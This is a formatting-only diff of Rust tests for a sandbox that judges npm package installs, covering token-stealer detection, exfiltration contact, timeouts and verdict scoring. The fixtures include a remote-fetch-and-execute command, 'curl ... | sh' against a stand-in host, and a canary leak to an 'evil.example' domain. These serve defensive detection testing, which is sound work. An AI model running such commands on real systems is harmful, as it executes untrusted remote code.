@@ -5,7 +5,7 @@ use std::path::PathBuf;
 
 use airlock_events::{Confidence, Finding, Severity, Verdict};
 use airlock_rules::fixtures::parse_fixture;
-use airlock_rules::{FailOn, Judgement, RunFacts, Ruleset};
+use airlock_rules::{FailOn, Judgement, Ruleset, RunFacts};
 
 fn rules() -> &'static Ruleset {
     static RULES: std::sync::OnceLock<Ruleset> = std::sync::OnceLock::new();
@@ -71,10 +71,26 @@ fn token_stealer_is_malicious_with_evidence_chain() {
     assert_eq!(f.rule, "canary-leaked");
     assert!(f.decisive);
     assert!(j.findings.iter().any(|f| f.rule == "exfil-service-contact"));
-    let conn = j.findings.iter().find(|f| f.rule == "exfil-service-contact").unwrap();
-    let chain = conn.evidence.iter().find_map(|e| e.proc.as_ref()).map(|p| p.chain.join(" → "));
-    assert_eq!(chain.as_deref(), Some("npm install → sh -c node install.js → node install.js"));
-    assert!(conn.message.contains("npm install → sh -c node install.js → node install.js"), "{}", conn.message);
+    let conn = j
+        .findings
+        .iter()
+        .find(|f| f.rule == "exfil-service-contact")
+        .unwrap();
+    let chain = conn
+        .evidence
+        .iter()
+        .find_map(|e| e.proc.as_ref())
+        .map(|p| p.chain.join(" → "));
+    assert_eq!(
+        chain.as_deref(),
+        Some("npm install → sh -c node install.js → node install.js")
+    );
+    assert!(
+        conn.message
+            .contains("npm install → sh -c node install.js → node install.js"),
+        "{}",
+        conn.message
+    );
 }
 
 #[test]
@@ -93,13 +109,15 @@ fn weak_signals_add_up() {
 
 #[test]
 fn timeouts_errors_and_incomplete_traces_are_never_benign() {
-    let timed = r#"{"type":"phase.end","name":"install","status":"timed-out","duration_ms":600000}"#;
+    let timed =
+        r#"{"type":"phase.end","name":"install","status":"timed-out","duration_ms":600000}"#;
     let j = judge(timed);
     assert_eq!(j.verdict, Verdict::TimedOut);
     assert_eq!(j.timed_out, vec!["install".to_string()]);
     let err = r#"{"type":"phase.end","name":"install","status":"error","duration_ms":1}"#;
     assert_eq!(judge(err).verdict, Verdict::Error);
-    let incomplete = "{\"type\":\"note\",\"message\":\"x\"}\n{\"record\":\"footer\",\"complete\":false}";
+    let incomplete =
+        "{\"type\":\"note\",\"message\":\"x\"}\n{\"record\":\"footer\",\"complete\":false}";
     let j = judge(incomplete);
     assert_eq!(j.verdict, Verdict::Error);
     assert!(!j.complete);
@@ -108,9 +126,16 @@ fn timeouts_errors_and_incomplete_traces_are_never_benign() {
     recs.retain(|r| !matches!(r, airlock_events::Record::Footer(_)));
     let j = rules().judge(&h, recs);
     assert_eq!(j.verdict, Verdict::Error);
-    assert!(j.notes.iter().any(|n| n.contains("no footer")), "{:?}", j.notes);
+    assert!(
+        j.notes.iter().any(|n| n.contains("no footer")),
+        "{:?}",
+        j.notes
+    );
     // A decisive finding still wins over a timeout.
-    let both = format!("{}\n{}", timed, r#"{"type":"canary.leaked","destination":"dns:x.evil.example"}"#);
+    let both = format!(
+        "{}\n{}",
+        timed, r#"{"type":"canary.leaked","destination":"dns:x.evil.example"}"#
+    );
     assert_eq!(judge(&both).verdict, Verdict::Malicious);
 }
 
@@ -126,12 +151,22 @@ fn scoring_and_fail_on() {
         decisive,
         evidence: vec![],
     };
-    let facts = RunFacts { complete: true, footer_seen: true, ..Default::default() };
+    let facts = RunFacts {
+        complete: true,
+        footer_seen: true,
+        ..Default::default()
+    };
     let (v, score, _) = cfg.decide(&[], &facts);
     assert_eq!((v, score), (Verdict::Benign, 0.0));
     // The same rule counts once.
-    let twice = [f("a", Severity::High, Confidence::High, false), f("a", Severity::High, Confidence::High, false)];
-    assert_eq!(cfg.score(&twice), cfg.weight(Severity::High, Confidence::High));
+    let twice = [
+        f("a", Severity::High, Confidence::High, false),
+        f("a", Severity::High, Confidence::High, false),
+    ];
+    assert_eq!(
+        cfg.score(&twice),
+        cfg.weight(Severity::High, Confidence::High)
+    );
     let (v, _, _) = cfg.decide(&[f("a", Severity::Low, Confidence::Low, true)], &facts);
     assert_eq!(v, Verdict::Malicious);
     assert!(FailOn::Malicious.fails(Verdict::Malicious));
@@ -147,7 +182,11 @@ fn scoring_and_fail_on() {
 
 #[test]
 fn judge_reader_streams_jsonl() {
-    let (h, recs) = parse_fixture(None, &lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#)).unwrap();
+    let (h, recs) = parse_fixture(
+        None,
+        &lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#),
+    )
+    .unwrap();
     let mut buf = Vec::new();
     let mut w = airlock_events::TraceWriter::new(&mut buf);
     w.header(&h).unwrap();
